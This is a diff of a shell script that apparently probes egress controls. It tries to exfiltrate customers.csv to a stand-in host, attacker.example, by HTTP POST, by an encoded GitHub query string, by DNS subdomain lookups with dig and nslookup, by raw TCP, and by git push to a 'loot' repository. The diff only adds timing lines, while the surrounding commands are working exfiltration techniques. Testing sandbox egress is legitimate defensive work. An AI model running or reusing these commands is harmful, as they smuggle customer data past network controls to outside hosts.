@@ -8,6 +8,7 @@ c -X POST --data-binary @customers.csv https://attacker.example/collect
 echo "== 2. in a query string, to an allowed host"
 c "https://api.github.com/search/code?q=$(head -c 400 customers.csv | base64 -w0 | tr '+/=' '-_.')"
 echo "== 3. through DNS"
+t0=$(date +%s%N)
 Q=$(head -c 200 customers.csv | base64 -w0 | tr -dc 'A-Za-z0-9' | head -c 60)
 command -v dig >/dev/null && dig +time=2 +tries=1 "$Q.attacker.example" 2>&1 | tail -2
 command -v nslookup >/dev/null && nslookup -timeout=2 "$Q.attacker.example" 2>&1 | tail -2
@@ -38,6 +39,7 @@ except OSError as e:
     except OSError as e2:
         print("raw tcp:", e, "/", e2)
 PY
+echo "dns and raw tcp took $(( ($(date +%s%N) - t0) / 1000000 )) ms"
 echo "== 5. git push to a remote on the attacker's host"
 git push https://attacker.example/loot.git HEAD:refs/heads/main 2>&1 | tail -2
 echo "== 6. POST through an allowed host"
